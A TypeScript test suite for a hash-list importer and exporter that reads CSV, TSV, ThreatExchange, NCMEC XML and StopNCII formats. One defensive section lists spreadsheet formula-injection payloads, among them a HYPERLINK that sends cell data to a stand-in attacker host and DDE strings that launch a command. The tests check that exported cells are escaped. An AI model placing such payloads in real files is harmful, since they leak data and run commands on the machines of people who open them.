import { describe, expect, test } from 'vitest';
import {
  BankService,
  Problems,
  delimitedHeader,
  importHashList,
  parseNewEntry,
  textLineBatches,
  delimitedLine,
  fromSpreadsheetSafe,
  parseHashList,
  spreadsheetSafe,
  type BankEntry,
  splitDelimited,
  textLines,
  type ImportRecord,
  type ImportFormat,
} from '@hashline/domain';
import { createMemoryStore } from '@hashline/domain/testing';

const PDQ = 'd8f8f0cee0f4a84f0637022a078f67f0b36e2ed596621e1d33e6339c4e9c9b22';
const MD5 = '0123456789abcdef0123456789abcdef';
const SHA1 = '0123456789abcdef0123456789abcdef01234567';

async function parse(text: string | string[], format: ImportFormat): Promise<ImportRecord[]> {
  const records: ImportRecord[] = [];
  for await (const r of parseHashList(Array.isArray(text) ? text : [text], format, 'import:test'))
    records.push(r);
  return records;
}

describe('text lines', () => {
  test('splits chunks at any boundary, CRLF or LF, strips a BOM, numbers lines', async () => {
    const lines: string[] = [];
    for await (const { line, text } of textLines(['\uFEFFa,b\r', '\nc', 'd\n\ne']))
      lines.push(`${line}:${text}`);
    expect(lines).toEqual(['1:a,b', '2:cd', '3:', '4:e']);
  });

  test('splits quoted fields RFC 4180 style', () => {
    expect(splitDelimited('a,"b,c","d""e",', ',')).toEqual(['a', 'b,c', 'd"e', '']);
    expect(splitDelimited('"open', ',')).toBeNull();
  });
});

describe('CSV and TSV', () => {
  test('reads columns by header name in any order, with aliases and classification', async () => {
    const csv = `value,signal_type,Quality,industry,uk,baseline,source,external_id,note\n${PDQ},pdq,100,a1,B,yes,iwf,X-1,"first, note"\n${MD5},MD5,,,,,,,\n`;
    const records = await parse(csv, 'csv');
    expect(records).toEqual([
      {
        kind: 'hash',
        line: 2,
        hash: {
          signalType: 'pdq',
          value: PDQ,
          quality: 100,
          classification: { industry: 'A1', uk: 'B', baseline: true },
          provenance: { source: 'iwf', externalId: 'X-1', member: null },
          note: 'first, note',
        },
      },
      {
        kind: 'hash',
        line: 3,
        hash: {
          signalType: 'md5',
          value: MD5,
          quality: null,
          classification: {},
          provenance: { source: 'import:test', externalId: null, member: null },
          note: null,
        },
      },
    ]);
  });

  test('TSV works the same', async () => {
    const records = await parse(`signal_type\thash\nsha1\t${SHA1}\n`, 'tsv');
    expect(records).toMatchObject([{ kind: 'hash', line: 2, hash: { signalType: 'sha1', value: SHA1 } }]);
  });

  test('reports a bad row with its line number and keeps going', async () => {
    const records = await parse(`signal_type,value,industry\npdq,${PDQ},Z9\nfoo,${MD5}\nmd5,${MD5}\n`, 'csv');
    expect(records.map((r) => [r.kind, r.line])).toEqual([
      ['error', 2],
      ['error', 3],
      ['hash', 4],
    ]);
    expect(records[0]).toMatchObject({ message: expect.stringContaining('industry') });
  });

  test('refuses a header with unknown or missing columns, naming them', async () => {
    const [record] = await parse(`signal_type,hsh\npdq,${PDQ}\n`, 'csv');
    expect(record).toMatchObject({
      kind: 'error',
      line: 1,
      message: expect.stringContaining('unknown: hsh'),
    });
  });

  test('reads headerless `hashline hash` output (hash,quality,path) as PDQ', async () => {
    const records = await parse(`${PDQ},100,photos/a.jpg\n`, 'csv');
    expect(records).toMatchObject([
      { kind: 'hash', line: 1, hash: { signalType: 'pdq', value: PDQ, quality: 100 } },
    ]);
  });
});

describe('ThreatExchange signal files', () => {
  test('reads comma or space separated lines, maps signal names, skips unsupported ones', async () => {
    const records = await parse(
      `# exported\nsignal_type,signal\npdq,${PDQ}\nvideo_md5 ${MD5}\nHASH_SHA1,${SHA1}\nphotodna,AAAA\nnonsense\n`,
      'threatexchange',
    );
    expect(records.map((r) => [r.kind, r.line, r.kind === 'hash' ? r.hash.signalType : null])).toEqual([
      ['hash', 3, 'pdq'],
      ['hash', 4, 'md5'],
      ['hash', 5, 'sha1'],
      ['skipped', 6, null],
      ['error', 7, null],
    ]);
  });
});

describe('NCMEC hash-sharing XML', () => {
  const xml = `<?xml version="1.0" encoding="UTF-8"?>
<queryResult xmlns="https://hashsharing.ncmec.org/HashSharing/v2">
  <images count="2">
    <image>
      <member id="42">Example ESP</member>
      <timestamp>2024-01-02T03:04:05Z</timestamp>
      <id>img-1</id>
      <classification>A1</classification>
      <fingerprints>
        <md5>${MD5.toUpperCase()}</md5>
        <pdq>${PDQ}</pdq>
        <pdna>AAAABBBB</pdna>
      </fingerprints>
    </image>
  </images>
  <videos><video><member id="7"/><id>vid-1</id><fingerprints><md5>${MD5}</md5></fingerprints></video></videos>
  <deletedImages><deletedImage><member id="42"/><id>img-0</id></deletedImage></deletedImages>
  <paging><next>/v2/entries?page=2</next></paging>
</queryResult>`;

  test('yields one record per fingerprint with classification and provenance, and withdrawals', async () => {
    // Split mid-element to prove streaming across chunks.
    const records = await parse([xml.slice(0, 150), xml.slice(150, 400), xml.slice(400)], 'ncmec-xml');
    expect(records).toEqual([
      {
        kind: 'hash',
        line: 4,
        hash: {
          signalType: 'md5',
          value: MD5.toUpperCase(),
          classification: { industry: 'A1' },
          provenance: { source: 'ncmec', externalId: 'img-1', member: '42' },
        },
      },
      {
        kind: 'hash',
        line: 4,
        hash: {
          signalType: 'pdq',
          value: PDQ,
          classification: { industry: 'A1' },
          provenance: { source: 'ncmec', externalId: 'img-1', member: '42' },
        },
      },
      { kind: 'skipped', line: 4, reason: expect.stringContaining('PhotoDNA') },
      {
        kind: 'hash',
        line: 16,
        hash: {
          signalType: 'md5',
          value: MD5,
          classification: {},
          provenance: { source: 'ncmec', externalId: 'vid-1', member: '7' },
        },
      },
      { kind: 'withdrawal', line: 17, withdrawn: { externalId: 'img-0', source: 'ncmec', member: '42' } },
    ]);
  });

  test('reports malformed XML with a line number', async () => {
    const records = await parse('<queryResult>\n<images><image></images>', 'ncmec-xml');
    expect(records.at(-1)).toMatchObject({ kind: 'error', line: 2 });
  });
});

describe('StopNCII FetchHashes JSON', () => {
  const page = {
    count: 3,
    nextPageToken: 'abc',
    hasMoreRecords: false,
    hashRecords: [
      {
        lastModtimestamp: 1,
        signalType: 'ImagePDQ',
        hashValue: PDQ,
        hashStatus: 'Active',
        caseNumbers: ['CASE-1'],
      },
      { lastModtimestamp: 2, signalType: 'VideoTMK', hashValue: 'xx', hashStatus: 'Active' },
      { lastModtimestamp: 3, signalType: 'VideoMD5', hashValue: MD5, hashStatus: 'Withdrawn' },
    ],
  };

  test('reads a page: active hashes, skipped signal types, withdrawals', async () => {
    const records = await parse(JSON.stringify(page, null, 2), 'stopncii-json');
    expect(records).toEqual([
      {
        kind: 'hash',
        line: 1,
        hash: {
          signalType: 'pdq',
          value: PDQ,
          provenance: { source: 'stopncii', externalId: 'CASE-1' },
          note: null,
        },
      },
      { kind: 'skipped', line: 1, reason: expect.stringContaining('VideoTMK') },
      { kind: 'withdrawal', line: 1, withdrawn: { signalType: 'md5', value: MD5 } },
    ]);
  });

  test('reads NDJSON, one page per line, with line numbers', async () => {
    const records = await parse(
      `${JSON.stringify(page)}\n\n${JSON.stringify(page)}\n{oops\n`,
      'stopncii-json',
    );
    expect(records.filter((r) => r.kind === 'hash').map((r) => r.line)).toEqual([1, 3]);
    expect(records.at(-1)).toMatchObject({ kind: 'error', line: 4 });
  });
});

/** The note of a hash record (what went wrong otherwise). */
const noteOf = (r: ImportRecord) => (r.kind === 'hash' ? r.hash.note : JSON.stringify(r));

describe('spreadsheet-safe CSV and TSV (issue 15, finding 5)', () => {
  const HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '-2+3',
    '\t=1+1',
    '\r=1+1',
    "'=already quoted once",
    "''+twice",
    "'plain apostrophe",
    '  leading spaces kept',
    'trailing spaces kept  ',
    'a normal note, with a comma',
  ];

  function entry(id: number, text: string): BankEntry {
    return {
      id,
      bankId: 1,
      signalType: 'pdq',
      value: PDQ,
      quality: 90,
      classification: { industry: 'A1' },
      provenance: { source: text, externalId: text, member: text },
      reviewerCount: 2,
      addedBy: 'test',
      note: text,
      disabled: false,
      feedback: null,
      createdAt: new Date(0),
      updatedAt: new Date(0),
    };
  }

  test('no exported text cell starts like a formula, in CSV or TSV', () => {
    for (const delimiter of [',', '\t'] as const) {
      for (const text of HOSTILE) {
        const line = delimitedLine(entry(1, text), delimiter).replace(/\n$/, '');
        const cells = splitDelimited(line, delimiter)!;
        expect(cells.slice(0, 3)).toEqual(['pdq', PDQ, '90']); // hashes and numbers stay exact
        for (const cell of cells)
          expect(cell, `${JSON.stringify(text)} → ${JSON.stringify(cell)}`).not.toMatch(/^[=+\-@\t\r]/);
      }
    }
  });

  test('export → import round-trips every text exactly (CSV), and as far as TSV can carry it', async () => {
    const lines = HOSTILE.map((text, i) => delimitedLine(entry(i + 1, text), ','));
    const records = await parse(delimitedHeader(',') + lines.join(''), 'csv');
    expect(records.map(noteOf)).toEqual(HOSTILE);
    expect(records.map((r) => (r.kind === 'hash' ? r.hash.provenance?.source : ''))).toEqual(HOSTILE);
    // TSV has no quoting: a tab or line break in a text becomes a space, the rest round-trips.
    const tsv = HOSTILE.map((text, i) => delimitedLine(entry(i + 1, text), '\t'));
    const fromTsv = await parse(delimitedHeader('\t') + tsv.join(''), 'tsv');
    expect(fromTsv.map(noteOf)).toEqual(HOSTILE.map((text) => text.replace(/[\t\r\n]/g, ' ')));
  });

  test('import keeps leading whitespace of text as data: "\\t=1+1" is not read as "=1+1"', async () => {
    const records = await parse(
      `signal_type,value,note\npdq,${PDQ},"\t=1+1"\nmd5, ${MD5} ,  spaced  \n`,
      'csv',
    );
    expect(records.map((r) => (r.kind === 'hash' ? [r.hash.value, r.hash.note] : JSON.stringify(r)))).toEqual(
      [
        [PDQ, '\t=1+1'],
        [MD5, '  spaced  '], // typed columns are still trimmed
      ],
    );
  });

  test('the escape is undone only where the exporter added it', () => {
    for (const text of HOSTILE) expect(fromSpreadsheetSafe(spreadsheetSafe(text))).toBe(text);
    expect(spreadsheetSafe("'plain")).toBe("'plain");
    expect(fromSpreadsheetSafe("'plain")).toBe("'plain");
  });
});

describe('plain rows, validated in the parser (the bulk import fast path)', () => {
  const LOW = `${PDQ.slice(0, 60)}0000`;
  const rows = [
    `pdq,${PDQ},90`,
    `pdq,${PDQ.toUpperCase()},`,
    `md5,${MD5},12`,
    ``,
    `# a comment`,
    `PDQ,${LOW},90`,
    `pdq,${LOW},40`,
    `pdq,${'0'.repeat(64)},90`,
    `pdq,abc,90`,
    `pdq,${LOW},9.5`,
    ` pdq , ${LOW} , 77 `,
    `"pdq",${SHA1}0000000000000000000000a1,90`,
    `sha1,${SHA1}`,
    `vpdq,${PDQ},90`,
    `pdq,,90`,
    `photodna,AAAA,90`,
  ];

  /** Imports `text` into a fresh bank of a memory store: the summary and the entries. */
  async function importInto(text: string | string[]) {
    const service = new BankService(createMemoryStore());
    await service.createBank({ name: 'b', kind: 'test' });
    const summary = await importHashList(service, 'b', () => (Array.isArray(text) ? text : [text]), {
      format: 'csv',
      onError: 'skip',
      addedBy: 'test',
      origin: 'import:test',
    });
    const { entries } = await service.listEntries('b', { limit: 100, includeDisabled: true });
    return { summary, entries: entries.map(({ id: _id, createdAt: _c, updatedAt: _u, ...e }) => e) };
  }

  test('a plain row carries the entry parseNewEntry makes of its hash; any other row carries none', async () => {
    const records = await parse(['signal_type,value,quality', ...rows].join('\n') + '\n', 'csv');
    let plain = 0;
    for (const record of records) {
      if (record.kind !== 'hash' || !record.entry) continue;
      plain++;
      const problems = new Problems();
      expect(record.entry).toEqual(parseNewEntry(record.hash, 'x', problems));
      expect(problems.list).toEqual([]);
    }
    // pdq, PDQ upper-case hex, md5, sha1 without quality.
    expect(plain).toBe(4);
    const unvalidated = records.filter((r) => r.kind === 'hash' && !r.entry).map((r) => r.line);
    // Upper-case signal name, spaces, quotes: the general path, which reads them all the same;
    // invalid hashes (low quality, degenerate, not hex): the general path, for its message.
    expect(unvalidated).toEqual([7, 8, 9, 10, 12, 13]);
  });

  test('imports exactly as the general path does: entries, counts, problems and their line numbers', async () => {
    // An empty `note` column makes every row take the general path; the entries are the same.
    const plainFile = ['signal_type,value,quality', ...rows].join('\n') + '\n';
    const generalFile =
      ['signal_type,value,quality,note', ...rows.map((r) => (r ? `${r},` : r))].join('\n') + '\n';
    const viaPlain = await importInto(plainFile);
    const viaGeneral = await importInto(generalFile);
    expect(viaPlain).toEqual(viaGeneral);
    expect(viaPlain.summary).toMatchObject({ added: 5, existing: 2, errors: 5, skipped: 2 });
    expect(viaPlain.summary.problems.map((p) => p.line)).toEqual([8, 9, 10, 11, 15, 16, 17]);
    // The same file in chunks that split lines anywhere: the same result, the same line numbers.
    const chunks: string[] = [];
    for (let i = 0; i < plainFile.length; i += 7) chunks.push(plainFile.slice(i, i + 7));
    expect(await importInto(chunks)).toEqual(viaPlain);
  });

  test('a bare list (hash[,quality[,path]]) is read through the same fast path', async () => {
    const bare = `${PDQ},95,a.jpg\n${MD5}\n${'f'.repeat(64)},100\n${LOW.toUpperCase()},60,b.jpg\r\n`;
    const records = await parse(bare, 'csv');
    expect(records.map((r) => [r.kind, r.line, r.kind === 'hash' && r.entry !== undefined])).toEqual([
      ['hash', 1, true],
      ['hash', 2, true],
      ['hash', 3, false],
      ['hash', 4, true],
    ]);
    const { summary, entries } = await importInto(bare);
    expect(summary).toMatchObject({ added: 3, errors: 1, problems: [{ line: 3 }] });
    // Created in (signal type, value) order.
    expect(entries.map((e) => [e.signalType, e.value, e.quality, e.provenance])).toEqual([
      ['md5', MD5, null, { source: 'import:test', externalId: null, member: null }],
      ['pdq', LOW, 60, { source: 'import:test', externalId: null, member: null }],
      ['pdq', PDQ, 95, { source: 'import:test', externalId: null, member: null }],
    ]);
  });

  test('text line batches number lines as textLines does, whatever the chunking', async () => {
    const text = '\uFEFFa,b\r\nc\n\nd\r\ne';
    const expected: string[] = [];
    for await (const { line, text: t } of textLines([text])) expected.push(`${line}:${t}`);
    for (const size of [1, 2, 3, 5, 100]) {
      const chunks: string[] = [];
      for (let i = 0; i < text.length; i += size) chunks.push(text.slice(i, i + size));
      const got: string[] = [];
      for await (const { first, lines } of textLineBatches(chunks))
        lines.forEach((l, i) => got.push(`${first + i}:${l}`));
      expect(got).toEqual(expected);
    }
  });
});
